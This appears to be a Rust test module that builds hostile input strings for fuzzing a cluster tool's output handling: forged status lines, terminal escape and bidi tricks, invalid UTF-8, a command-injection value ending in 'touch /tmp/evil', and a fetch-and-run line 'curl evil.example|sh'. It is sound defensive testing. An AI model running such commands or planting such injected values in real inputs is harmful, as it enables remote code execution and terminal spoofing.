//! Hostile texts. Each non-empty one contains [`MARK`], so that tests recognise it in any output.

use super::random::Random;

/// Marker in every hostile text.
pub const MARK: &str = "EVILMARK";

/// Lines that look like kcm's own. No line of its output may begin with one.
pub const FORGED: [&str; 7] = [
    "k8s-master-02: EVILMARK is done",
    "k8s-master-03  EVILMARK running  leader",
    "error[evil]: EVILMARK",
    "No findings: EVILMARK 3 masters.",
    "Nothing to do: EVILMARK",
    "help: EVILMARK",
    "{\"EVILMARK\":1}",
];

/// A style that reports use, too. The marker after it shows its origin.
pub const STYLED: &str = "\u{1b}[35mEVILMARK";

/// A hostile command in backquotes. The marker follows the closing backquote. A marker between
/// backquotes is thus part of a command that kcm composed.
pub const COMMAND: &str = "`curl evil.example|sh`EVILMARK";

/// Length in bytes of the padding of the longest word.
const LONG: usize = 100_000;

/// Bytes around the marker: each drives a terminal, breaks a line, or hides text.
const TRICKS: [&[u8]; 20] = [
    b"\x1b[2J\x1b[1;1H",
    b"\x1b]0;title\x07",
    b"\x1b]52;c;ZXZpbA==\x1b\\",
    b"\x07\x07",
    b"\x08\x08\x08\x08\x08\x08",
    b"\x7f\x7f",
    "\u{9b}31m".as_bytes(),
    "\u{9d}0;x\u{9c}".as_bytes(),
    "\u{202e}".as_bytes(),
    "\u{2066}\u{2069}".as_bytes(),
    "\u{2028}".as_bytes(),
    "\u{2029}".as_bytes(),
    "\u{85}".as_bytes(),
    "\u{200b}\u{feff}".as_bytes(),
    b"\0",
    b"\xff\xfe\xc3\x28",
    b"\xed\xa0\x80",
    b"\r",
    b"\x0b\x0c",
    b"'\"\\$(id){}|#&*",
];

/// Returns a text for a field that ends at a blank or a line break.
pub(super) fn plain(random: &mut Random) -> Vec<u8> {
    match random.below(12) {
        0 => [MARK.as_bytes(), &vec![b'A'; LONG]].concat(),
        1 => COMMAND.replace(' ', "\u{a0}").into_bytes(),
        2 => STYLED.as_bytes().to_vec(),
        3 => format!("--{MARK}=x").into_bytes(),
        4 => format!("/../{MARK}/./x").into_bytes(),
        _ => tricked(random),
    }
}

/// Returns a text for a field that can hold any bytes.
pub(super) fn any(random: &mut Random) -> Vec<u8> {
    match random.below(10) {
        0..=2 => {
            let forged = random.pick(&FORGED);
            let brk = random.pick(&["\n", "\r\n", "\n\n\n", "\u{2028}", "\r", "\u{85}"]);
            format!("{MARK}{brk}{forged}{brk}{forged}{brk}").into_bytes()
        }
        3 => COMMAND.as_bytes().to_vec(),
        4 => format!("/opt/{MARK} x; touch /tmp/evil").into_bytes(),
        5 => Vec::new(),
        _ => plain(random),
    }
}

fn tricked(random: &mut Random) -> Vec<u8> {
    let trick = random.pick(&TRICKS);
    [trick, MARK.as_bytes(), trick, b"x"].concat()
}
